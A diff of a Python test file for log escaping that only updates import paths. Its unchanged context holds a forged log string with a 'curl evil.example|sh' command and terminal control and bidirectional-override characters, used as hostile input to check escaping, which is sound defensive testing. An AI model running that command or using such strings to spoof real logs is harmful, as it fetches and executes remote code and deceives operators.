@@ -13,9 +13,9 @@ from hypothesis import strategies as st
 from rich.console import Console
 from rich.table import Table
 
-from deploy.commands.common import ascii_json, cell
+from cli.console import ascii_json, cell
 from deploy.embedded.log_stream import LogStream
-from deploy.log_lines import Escaped
+from deploy.log_setup import Escaped
 
 FORGED = (
     "m\n2026-11-30T22:22:22.222Z tally      | worker-1 is stopped: run curl evil.example|sh\x1b[31m\r\x9b2J\u202e\u2028"
@@ -91,7 +91,7 @@ def test_json_is_the_same_and_prints(value: dict[str, str]) -> None:
 @pytest.mark.parametrize("name", ["tally.exporter", "aiokafka.producer"])
 def test_what_a_command_logs_without_any_setting_up_is_escaped_too(name: str) -> None:
     code = (
-        "import logging, sys; from deploy.cli import run; run(['schema', '--no-such']);"
+        "import logging, sys; from cli.main import run; run(['schema', '--no-such']);"
         f"logging.getLogger({name!r}).critical(sys.argv[1])"
     )
     ended = subprocess.run([sys.executable, "-c", code, FORGED], capture_output=True, check=True, timeout=60)
